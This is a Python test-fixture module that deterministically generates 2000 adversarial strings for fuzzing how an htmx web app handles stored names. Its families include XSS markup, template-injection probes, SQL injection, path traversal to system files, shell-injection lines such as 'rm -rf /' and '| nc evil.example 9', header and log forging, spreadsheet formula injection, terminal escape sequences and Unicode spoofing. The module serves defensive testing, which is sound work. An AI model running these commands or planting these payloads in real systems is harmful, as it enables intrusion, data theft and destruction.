"""Two thousand texts that somebody who can write to the bucket or the table may put where a name belongs.

Made of families out of a seed, so that every run has the same ones. `FAMILIES` maps a family's name to what
makes one of its texts; the texts of one family differ by what they are wrapped in, so that a defence that
knows one spelling meets the others.
"""

from __future__ import annotations

import json
import re
import unicodedata
from collections.abc import Callable, Mapping
from functools import cache
from pathlib import Path
from random import Random
from typing import NamedTuple
from urllib.parse import quote

COUNT = 2000
SEED = 20261120
LARGEST = 390_000
"""Characters of the largest: an item of DynamoDB holds 400 KB with its names."""
HTMX = Path(__file__).resolve().parents[2] / "static" / "vendor" / "htmx-4.0.1.min.js"


class Payload(NamedTuple):
    """One text and where it comes from."""

    family: str
    text: str


Maker = Callable[[Random, int], str]

# ---------------------------------------------------------------- what is to be run, were it ever run

_CODE = ("alert(1)", "top.pwned=1", "fetch('//evil.example')", "document.title='pwned'", "throw 1")
_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onwheel",
)
_QUOTES = ('"', "'", "`", "&quot;", "&#34;", "&#x27;", "\u201c", "\uff02", "%22", '\\"', "")
_CLOSERS = (
    "",
    ">",
    "/>",
    "</",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</script>",
    "</td></tr></table>",
    "*/",
)


def _code(dice: Random) -> str:
    return dice.choice(_CODE)


def _markup(dice: Random, number: int) -> str:
    code, handler = _code(dice), dice.choice(_HANDLERS)
    forms = (
        f"<script>{code}</script>",
        f"<img src=x {handler}={code}>",
        f"<iframe srcdoc='<script>{code}</script>'>",
        f"<form action=//evil.example><input name=token><button>{number}",
        f"<base href=//evil.example/{number}>",
        f"<meta http-equiv=refresh content='0;url=javascript:{code}'>",
        f"<template shadowrootmode=open><img src=x {handler}={code}></template>",
        f"<object data=javascript:{code}><embed src=//evil.example>",
        f"<details open ontoggle={code}><dialog open id=keys>",
        f"<input autofocus onfocus={code} id=q name=token>",
    )
    return dice.choice(_CLOSERS) + dice.choice(forms)


def _broken(dice: Random, number: int) -> str:
    forms = (
        "<",
        "<<script>",
        "<!--",
        "<![CDATA[",
        "<!doctype html><plaintext>",
        "</",
        "<?php echo 1 ?>",
        "<a b='c",
        "<svg><style><!--</style><img src=x onerror=alert(1)>",
        "<table><tr><td><form>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<xmp><listing><noembed>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<img/src=x\tonerror\n=\ralert(1)//",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60script&#62alert(1)",
        "&amp;lt;b&amp;gt;",
        "\uff1cscript\uff1ealert(1)",
        "+ADw-script+AD4-alert(1)",
    )
    return f"{dice.choice(forms)}{number}"


@cache
def htmx_names() -> tuple[str, ...]:
    """Every attribute that the vendored htmx asks for, by its own source, and those of earlier versions."""
    found = set(re.findall(r"hx-[a-z][a-z:-]*", HTMX.read_text(encoding="utf-8")))
    earlier = {"hx-on", "hx-on:click", "hx-on::load", "hx-vars", "hx-ext", "hx-sse", "hx-ws", "hx-inherit"}
    ours = {"hx-nonce", "hx-live", "hx-partial", "hx-preload", "hx-optimistic", "hx-upsert", "sse-connect"}
    return tuple(sorted({name.rstrip(":-") for name in found} | earlier | ours | {"hx-get", "hx-status:500"}))


def _htmx(dice: Random, number: int) -> str:
    names = htmx_names()
    name = names[number % len(names)]
    spelled = dice.choice(
        (name, f"data-{name}", name.upper(), name.replace("hx-", "hx:"), f"{name}:inherited")
    )
    value = dice.choice(("/states/pulse", "js:alert(1)", "load", "outerHTML", "//evil.example", '{"a":1}'))
    quote_mark = dice.choice(_QUOTES)
    forms = (
        f"{quote_mark} {spelled}={quote_mark}{value}{quote_mark} hx-trigger={quote_mark}load",
        f"<div {spelled}='{value}' hx-trigger='load' hx-nonce='guess{number}'>",
        f"<hx-partial hx-target='#region'><b {spelled}={value}></hx-partial>",
        f"<template hx type=partial {spelled}='{value}'></template>",
        f'"><i {spelled}="{value}" hx-trigger="every 1s" hx-swap="innerHTML">',
        f"hx-on:htmx:after:swap={_code(dice)}",
    )
    return dice.choice(forms)


_SCHEMES = ("javascript", "data", "vbscript", "file", "blob", "filesystem", "view-source", "ws", "ftp")
_SPACERS = ("", "\t", "\n", "\r", "\0", "\x01", "\u00a0", "&Tab;", "&NewLine;", "&#0000009", "/**/", "\\t")


def _url(dice: Random, number: int) -> str:
    scheme = dice.choice(_SCHEMES)
    cut = dice.randrange(len(scheme) + 1)
    spelled = dice.choice((scheme, scheme.upper(), scheme[:cut] + dice.choice(_SPACERS) + scheme[cut:]))
    colon = dice.choice((":", "&colon;", "&#58;", "%3a", "\uff1a", "\t:"))
    rest = dice.choice(
        ("alert(1)", "text/html,<script>alert(1)</script>", "//%0aalert(1)", "text/html;base64,PHM+")
    )
    head = dice.choice(("", " ", "\x1f", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/", "///"))
    return f"{head}{spelled}{colon}{rest}#{number}"


def _breakout(dice: Random, number: int) -> str:
    mark, handler = dice.choice(_QUOTES), dice.choice(_HANDLERS)
    forms = (
        f"{mark} {handler}={mark}{_code(dice)}{mark} x={mark}",
        f"{mark}>{dice.choice(_CLOSERS)}<svg onload={_code(dice)}>",
        f"{mark} style={mark}position:fixed;inset:0{mark}",
        f"{mark} class={mark}flag flag-good{mark} id={mark}deed{mark}",
        f"{mark} href={mark}//evil.example{mark} target={mark}_top",
        f"{mark}/{handler}={_code(dice)}//{mark}",
        f"{mark} formaction={mark}//evil.example{mark} form={mark}deed",
        f"{mark} data-copy={mark}rm -rf /{mark} data-copy-link={mark}//evil.example",
        f"{mark} autofocus tabindex={mark}1{mark} accesskey={mark}x",
    )
    return f"{number}{dice.choice(forms)}"


def _template(dice: Random, number: int) -> str:
    forms = (
        "{{ 7*7 }}",
        "{% include 'base.html' %}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{{{raw}}}",
        "{# comment #}",
        "*{7*7}",
        "%(key)s %s %d %n",
        "{0.__class__} {key!r}",
        "$(id) `id` ${IFS}",
        "{% set x = cycler.__init__.__globals__ %}{{ x }}",
        "[[${7*7}]]",
        "{{ row.key|safe }}",
    )
    return f"{dice.choice(forms)} {number}"


def _placeholder(dice: Random, number: int) -> str:
    """The shape of what stands for a nonce while a page is kept, and of other marks of ours."""
    guess = f"{dice.getrandbits(128):032x}"
    forms = (
        f"nonce-{guess}",
        f'nonce-{guess}" hx-get="/states',
        f"'nonce-{guess}'",
        "nonce-" + "0" * 32,
        f'hx-nonce="{guess}"',
        f'id="r-{guess[:16]}"',
        f'id="region" data-rev="{number}"',
        f"/s/{guess[:16]}/unlock?done={number}",
        f"{guess}-md5",
        f"lockboard-{guess}",
        f"… ({number} more characters)",
        "\\u202e \\x00 \\ud800",
        "(access key) ••••••••",
        "OperationTypeApply",
        "@font-face LockboardRows",
    )
    return f"{dice.choice(forms)}"


def _css(dice: Random, number: int) -> str:
    forms = (
        "<style>*{display:none}</style>",
        "</style><style>@import '//evil.example'</style>",
        "expression(alert(1))",
        "url(javascript:alert(1))",
        "x;background:url(//evil.example)",
        "position:fixed;z-index:9999",
        "<link rel=stylesheet href=//evil.example>",
        "} body { display: none } {",
        "\\3c script\\3e",
        "@keyframes x{}",
        "-moz-binding:url(//evil.example)",
        "attr(value)",
    )
    return f"{dice.choice(forms)}/*{number}*/"


def _foreign(dice: Random, number: int) -> str:
    code = _code(dice)
    forms = (
        f"<svg><script>{code}</script></svg>",
        f"<svg onload={code}>",
        f"<svg><a xlink:href='javascript:{code}'><text>x</text></a></svg>",
        f"<svg><animate onbegin={code} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{code}>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'>",
        f"<svg><foreignObject><img src=x onerror={code}></foreignObject>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={code}>",
        f"<math href=javascript:{code}>CLICK</math>",
        f"<svg><desc><template><img src=x onerror={code}>",
        "</svg></use></symbol>",
        f"<math><annotation-xml encoding=text/html><img src=x onerror={code}>",
    )
    return f"{dice.choice(forms)}{number}"


_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_WIDTHLESS = (
    "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u034f\u115f\u1160\u3164\uffa0\u180e"
)


def _bidi(dice: Random, number: int) -> str:
    marks = "".join(dice.choices(_BIDI, k=dice.randint(1, 6)))
    forms = (
        f"invoice{marks}gpj.exe",
        f"{marks}nimda",
        f"admin{marks}",
        f"a{marks}b{marks[::-1]}c",
        f"{marks * 40}",
        f"prod/\u2067{marks}\u2069/tfstate",
    )
    return f"{dice.choice(forms)}{number}"


def _invisible(dice: Random, number: int) -> str:
    marks = "".join(dice.choices(_WIDTHLESS, k=dice.randint(1, 5)))
    tags = "".join(chr(0xE0000 + ord(c)) for c in "admin")
    selectors = "".join(map(chr, dice.choices(range(0xFE00, 0xFE10), k=3)))
    forms = (f"ad{marks}min", marks, tags, f"ok{selectors}", f"root{tags}", f"{marks}<b>")
    return f"{dice.choice(forms)}{number}"


def _combining(dice: Random, number: int) -> str:
    flood = "".join(map(chr, dice.choices(range(0x300, 0x36F), k=dice.choice((1, 30, 900)))))
    return f"{dice.choice('aeo')}{flood}{number}\u20dd\u0489"


_LOOKALIKE = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "i": "\u0456",
    "r": "\u1d26",
}


def _homoglyph(dice: Random, number: int) -> str:
    word = dice.choice(("admin", "root@prod", "operator", "terraform", "lockboard", "apple.com", "prod/rds"))
    told = "".join(_LOOKALIKE.get(c, c) if dice.random() < 0.7 else c for c in word)
    wide = "".join(chr(0xFEE0 + ord(c)) if 0x21 <= ord(c) <= 0x7E else c for c in word)
    bold = "".join(chr(0x1D41A + ord(c) - 97) if c.islower() else c for c in word)
    return f"{dice.choice((told, wide, bold))}{number}"


def _control(dice: Random, number: int) -> str:
    codes = [*range(0x20), *range(0x7F, 0xA0)]
    return (
        f"a{''.join(chr(codes[(number + step) % len(codes)]) for step in range(dice.randint(1, 5)))}b{number}"
    )


def _escape_sequence(dice: Random, number: int) -> str:
    forms = (
        "\x1b[2J\x1b[H",
        "\x1b[31mCRITICAL\x1b[0m",
        "\x1b]0;pwned\x07",
        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x9b31m",
        "\x1bP+q544e\x1b\\",
        "\r\x1b[K0 problems",
        "\b\b\b\b\bok",
        "\x1b[?1049h",
        "\x0e\x0f",
    )
    return f"{dice.choice(forms)}{number}"


def _surrogate(dice: Random, number: int) -> str:
    high, low = chr(dice.randint(0xD800, 0xDBFF)), chr(dice.randint(0xDC00, 0xDFFF))
    return (
        f"{dice.choice((f'a{high}', f'{low}b', f'{low}{high}', f'{high}x{low}', f'{high}<b>{low}'))}{number}"
    )


def _noncharacter(dice: Random, number: int) -> str:
    codes = [
        *range(0xFDD0, 0xFDF0),
        *(plane * 0x10000 + end for plane in range(17) for end in (0xFFFE, 0xFFFF)),
    ]
    return f"a{chr(codes[number % len(codes)])}{chr(dice.choice(codes))}{number}"


def _line_end(dice: Random, number: int) -> str:
    mark = dice.choice(
        ("\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\r\n", "\n", "\r")
    )
    forms = (f"a{mark}b", f"{mark}{mark}", f"a//{mark}alert(1)", f"{mark}=1+1", f"x{mark}<b>")
    return f"{dice.choice(forms)}{number}"


def _nul(dice: Random, number: int) -> str:
    return dice.choice(
        ("\0", "a\0b", "\0<script>", "app.tfstate\0.png", "\0\0\0", "%00", "\\0", "\\x00")
    ) + str(number)


def _bom(dice: Random, number: int) -> str:
    wide = "lock".encode(dice.choice(("utf-16-le", "utf-16-be", "utf-32-le"))).decode("latin-1")
    return dice.choice(("\ufeff", "\ufffe", "\xef\xbb\xbf", "\ufeff{}", f"\xff\xfe{wide}", wide)) + str(
        number
    )


def _twin(dice: Random, number: int) -> str:
    """Two texts that look the same, as two payloads: composed and decomposed."""
    word = ("caf\u00e9", "\u0110\u1ea1i", "\uac01\uc2dc", "\u01d5ber", "\u1e9b\u0323", "\ufb01le", "\u212b")[
        number // 2 % 7
    ]
    return f"{unicodedata.normalize('NFC' if number % 2 else 'NFD', word)}{number // 2}"


def _long(dice: Random, number: int) -> str:
    unit = dice.choice(
        ("A", "<b>", '"', "\u202e", "가", "&", "{{", "\\", "\n", "\ud800", "a/", "x" * 50 + " ")
    )
    size = LARGEST if number % 8 == 0 else dice.choice((300, 1024, 1025, 4096, 4097, 20_000))
    return (unit * (size // len(unit) + 1))[
        : size // max(1, len(unit.encode("utf-8", "surrogatepass")))
    ] + str(number)


def _deep(dice: Random, number: int) -> str:
    start, end = dice.choice((("[", "]"), ('{"a":', "}"), ('[{"ID":', "}]")))
    largest = LARGEST // len(start + end)
    depth = min(100_000, largest) if number % 6 == 0 else dice.choice((100, 999, 1001, 9_999, 10_001))
    return start * depth + dice.choice(("", "1" + end * depth, str(number)))


def _number(dice: Random, number: int) -> str:
    digits = "9" * dice.choice((20, 400, 5000, 20_000))
    value = dice.choice(
        (digits, f"-{digits}", f"1e{digits[:9]}", f"0x{digits}", "NaN", "Infinity", "-Infinity", "1e999")
    )
    field = dice.choice(("ID", "Created", "Who", "serial", "version"))
    return dice.choice(
        (value, f'{{"{field}":{value}}}', f'{{"ID":"x{number}","{field}":{value}}}', f"[{value}]")
    )


def _lock_json(dice: Random, number: int) -> str:
    """Records that readers of JSON disagree about."""
    bad = dice.choice(("<script>alert(1)</script>", "\u202eadmin", "=1+1", "x\ny", "\x1b[31m"))
    forms: tuple[str, ...] = (
        f'{{"ID":"{number}","ID":{json.dumps(bad)},"Who":"a","Who":{json.dumps(bad)}}}',
        f'{{"id":"{number}","iD":{json.dumps(bad)},"WHO":{json.dumps(bad)},"\u017fho":"x"}}',
        f'{{"ID":{{"$ne":null}},"Who":["{number}"]}}',
        f'{{"ID":"{number}","Who":null,"Created":"9999-12-31T23:59:59-12:00"}}',
        f'{{"ID":{json.dumps(bad)},"Created":"0001-01-01T00:00:00Z","Path":{json.dumps(bad)}}}',
        f'{{"ID":"{number}","Created":{json.dumps(bad)}}}',
        f'{{"ID":"","Who":{json.dumps(bad)}}}',
        f'{{"__proto__":{{"x":1}},"constructor":{number},"ID":{json.dumps(bad)}}}',
        '{"ID":"x","Who":"\\ud800","Operation":"\\u0000"}',
        f'{{"ID":"{number}"}} trailing',
        f'{{"ID":"{number}",}}',
        f'// {number}\n{{"ID":"x"}}',
        "null",
        "true",
        '""',
        "[]",
        "{}",
        f'"{number}"',
    )
    return dice.choice(forms)


def _formula(dice: Random, number: int) -> str:
    lead = dice.choice(
        ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\uff1d", "'=", '"=', "=\t", ";=", ",=")
    )
    call = dice.choice(
        ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("//evil.example")', "SUM(A1:A9)", "WEBSERVICE(A1)", "DDE()")
    )
    return f"{lead}{call}{number}"


def _log_forging(dice: Random, number: int) -> str:
    line = json.dumps({"event": "refresh", "complete": True, "seq": number})
    forms = (
        f"x\n{line}",
        f"x\r\n{line}\r\n",
        f'"}}\n{line}\n{{"a":"',
        f'","level":"info","user":"root{number}',
        f"x\u2028{line}",
        f'127.0.0.1 - - [20/Nov/2026] "GET / HTTP/1.1" 200 {number}',
        f"%0a{line}",
        f'{{"seq":{number},"mac":"{"0" * 64}"}}',
    )
    return dice.choice(forms)


def _header(dice: Random, number: int) -> str:
    end = dice.choice(("\r\n", "\n", "\r", "%0d%0a", "\u560a\u560d", "\\r\\n", "\x0b"))
    line = dice.choice(
        (
            "Set-Cookie: a=b",
            "Location: //evil.example",
            "Content-Length: 0",
            "X-A: b",
            "HX-Redirect: //evil.example",
        )
    )
    return f"x{number}{end}{line}{end}{end}<script>alert(1)</script>"


def _sql(dice: Random, number: int) -> str:
    forms = (
        "' OR '1'='1",
        "'; DROP TABLE states; --",
        '" OR ""="',
        "') UNION SELECT sql FROM sqlite_master --",
        "%' ESCAPE '%",
        "_%_%",
        "\\' OR 1=1 --",
        "1; ATTACH DATABASE '/tmp/x' AS x",
        "$$ || pg_sleep(9) || $$",
        ":key",
        "%(key)s",
        "?",
        "NEAR(a b)",
        '"a" AND "b"*',
        "a OR b NOT c",
        "^start* {col}:x",
    )
    return f"{dice.choice(forms)}{number}"


def _path(dice: Random, number: int) -> str:
    dots = dice.choice(("../", "..\\", "..%2f", "%2e%2e/", "..%c0%af", "....//", "./../", "..;/", "\u2025/"))
    target = dice.choice(
        ("etc/passwd", "windows/win.ini", "proc/self/environ", "lockboard.db", "s3://other/key")
    )
    head = dice.choice(("", "/", "//", "C:\\", "file://", "\\\\host\\", "~/"))
    return f"{head}{dots * dice.randint(1, 6)}{target}{number}"


def _shell(dice: Random, number: int) -> str:
    forms = (
        "; rm -rf /",
        "$(touch /tmp/pwned)",
        "`id`",
        "| nc evil.example 9",
        "&& curl evil.example",
        "' ; id ; '",
        '" ; id ; "',
        "\\'; id",
        "--endpoint-url=//evil.example",
        "-rf",
        "$'\\x41'",
        "a\nid\n",
        "!!",
        "~root",
        "{a,b}",
        "*?[a-z]",
        "> /dev/sda",
        "%COMSPEC%",
    )
    return f"{number}{dice.choice(forms)}"


def _percent(dice: Random, number: int) -> str:
    seed = dice.choice(
        ("<script>alert(1)</script>", '"', "/../", "\0", "\n", "\u202e", "+", "%", "&amp;", "#frag", "?a=b")
    )
    once = quote(seed, safe="")
    forms = (
        once,
        quote(once, safe=""),
        "%u003cscript%u003e",
        "%c0%bc",
        "%ed%a0%80",
        "%",
        "%%",
        "%zz",
        "%ff%fe",
        "+%2B+",
        "%f5%80%80%80",
    )
    return f"{dice.choice(forms)}{number}"


def _plain(dice: Random, number: int) -> str:
    """Nothing is wrong with them but that nobody thought of them."""
    forms = (
        " ",
        "   leading",
        "trailing   ",
        "0",
        "null",
        "None",
        "undefined",
        "true",
        "-1",
        "terraform.tfstate",
        "env:/x/y",
        "a//b",
        "/",
        "#",
        "?",
        "&",
        ";",
        "constructor",
        "__proto__",
        "toString",
        "CON",
        "💥👨‍👩‍👧‍👦",
        "결제/원장",
        "\u0e01\u0e33\u0e49",
        "\u0627\u0644\u0639\u0631\u0628\u064a\u0629",
        "x" * 300,
        "-md5",
        ".tflock",
        ".lockboard/probe",
    )
    return dice.choice(forms) if number % 2 else f"{dice.choice(forms)}{number}"


FAMILIES: Mapping[str, Maker] = {
    "markup": _markup,
    "broken markup": _broken,
    "htmx": _htmx,
    "url": _url,
    "breakout": _breakout,
    "template": _template,
    "placeholder": _placeholder,
    "css": _css,
    "svg and mathml": _foreign,
    "bidi": _bidi,
    "invisible": _invisible,
    "combining": _combining,
    "homoglyph": _homoglyph,
    "control": _control,
    "escape sequence": _escape_sequence,
    "surrogate": _surrogate,
    "noncharacter": _noncharacter,
    "line end": _line_end,
    "nul": _nul,
    "byte order mark": _bom,
    "composed and decomposed": _twin,
    "long": _long,
    "deep": _deep,
    "number": _number,
    "lock record": _lock_json,
    "formula": _formula,
    "log forging": _log_forging,
    "header": _header,
    "sql": _sql,
    "path": _path,
    "shell": _shell,
    "percent": _percent,
    "plain": _plain,
}
WEIGHT = {"htmx": 5, "markup": 3, "breakout": 3, "url": 3, "long": 0.5, "deep": 0.5}
"""How many more than its share a family gives."""


@cache
def payloads(count: int = COUNT, seed: int = SEED) -> tuple[Payload, ...]:
    """As many different texts, the families taking turns."""
    dice, found = Random(seed), dict[str, str]()
    number = 0
    names = list(FAMILIES)
    weights = [WEIGHT.get(name, 1) for name in names]
    while len(found) < count:
        number += 1
        name = names[number] if number < len(names) else dice.choices(names, weights)[0]
        found.setdefault(FAMILIES[name](dice, number), name)
    return tuple(Payload(family, text) for text, family in found.items())


def sample(count: int) -> tuple[Payload, ...]:
    """Of every family its first ones, the same number of each as far as they go."""
    by_family: dict[str, list[Payload]] = {}
    for payload in payloads():
        by_family.setdefault(payload.family, []).append(payload)
    taken: list[Payload] = []
    depth = 0
    while len(taken) < count:
        taken += [found[depth] for found in by_family.values() if depth < len(found)]
        depth += 1
    return tuple(taken[:count])
